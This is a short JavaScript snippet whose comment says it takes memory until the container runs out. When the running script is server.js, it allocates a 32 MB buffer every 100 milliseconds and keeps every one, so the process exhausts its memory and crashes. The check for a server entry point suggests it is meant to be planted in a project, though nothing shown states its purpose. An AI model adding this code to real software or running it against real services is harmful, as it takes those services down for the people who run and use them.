// Takes memory until the container has no more.
const taken = [];
if (process.argv[1]?.endsWith("server.js")) setInterval(() => taken.push(Buffer.alloc(32 * 1024 * 1024, 1)), 100);
